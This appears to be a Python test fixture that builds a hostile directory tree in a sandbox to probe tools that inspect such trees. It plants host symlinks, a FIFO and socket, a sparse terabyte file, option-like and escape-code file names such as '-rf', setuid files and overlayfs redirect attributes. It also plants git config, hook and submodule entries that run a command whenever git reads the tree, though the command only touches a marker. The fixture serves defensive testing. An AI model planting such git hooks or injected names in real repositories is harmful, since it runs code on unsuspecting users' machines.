"""What hostile code leaves in its tree for whoever looks at it from outside, each below the current
directory. Standard library only: sent into sandboxes as text.
"""

# The calls themselves are meant, one by one.
# ruff: noqa: S103, PTH101, PTH103, PTH211, PTH118, PTH123

import os
import socket
import stat

_TERABYTE = 1 << 40
_MARKS = (
    (b"user.overlay.opaque", b"y"),
    (b"user.overlay.redirect", b"/etc"),
    (b"user.overlay.whiteout", b"y"),
    (b"user.overlay.metacopy", b""),
    (b"trusted.overlay.opaque", b"y"),
)

NAMES = (
    b"line\nbreak",
    b"\xff\xfe",
    b"-rf",
    b" ",
    b"x" * 255,
    b"back\\slash",
    b'quote"',
    b"tab\t",
    b"a b",
    b"\x1b[2J",
    b"dev",
    b"--output=x",
)


def links(*targets: str) -> None:
    """Symbolic links to files and directories of the host."""
    for number, target in enumerate(targets):
        os.symlink(target, f"evil{number}")


def specials() -> None:
    """What hangs a reader, answers it, or is far larger than it looks."""
    os.mkfifo("evil-fifo")
    with socket.socket(socket.AF_UNIX) as some:
        some.bind("evil-socket")
    with open("evil-sparse", "wb") as file:
        try:
            file.truncate(_TERABYTE)
        except OSError:  # a limit on files; half of it is still more than anybody means
            file.truncate(20 << 20)


def names() -> None:
    for name in NAMES:
        os.close(os.open(name, os.O_WRONLY | os.O_CREAT, 0o644))


def repository(proof: str) -> None:
    """Settings that make git run programs when anybody so much as looks."""
    os.makedirs(".git/hooks", exist_ok=True)
    os.makedirs(".git/objects", exist_ok=True)
    os.makedirs(".git/refs", exist_ok=True)
    os.makedirs("below/.git", exist_ok=True)
    texts = {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
        f'\tfsmonitor = "touch {proof}; false"\n\tpager = touch {proof}\n'
        f'[diff "x"]\n\tcommand = touch {proof}\n\ttextconv = touch {proof}\n'
        f'[filter "x"]\n\tclean = touch {proof}\n\tsmudge = touch {proof}\n',
        ".git/hooks/post-checkout": f"#!/bin/sh\ntouch {proof}\n",
        ".gitattributes": "* diff=x filter=x\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch {proof}"\n',
        "below/.git/config": f"[core]\n\tfsmonitor = touch {proof}\n",
    }
    for path, text in texts.items():
        with open(path, "w") as file:
            file.write(text)
    os.chmod(".git/hooks/post-checkout", 0o755)


def setuid() -> None:
    """A program that would run with its owner's rights, whoever starts it."""
    for name, mode in (("evil-setuid", stat.S_ISUID), ("evil-setgid", stat.S_ISGID)):
        os.close(os.open(name, os.O_WRONLY | os.O_CREAT, 0o644))
        os.chmod(name, mode | 0o755)


def marks(directory: str) -> None:
    """Those by which an overlay remembers what is hidden and where things really are."""
    for name, value in _MARKS:
        try:
            os.setxattr(directory, name, value)
        except OSError:
            continue
    os.close(os.open(os.path.join(directory, "new"), os.O_WRONLY | os.O_CREAT, 0o644))
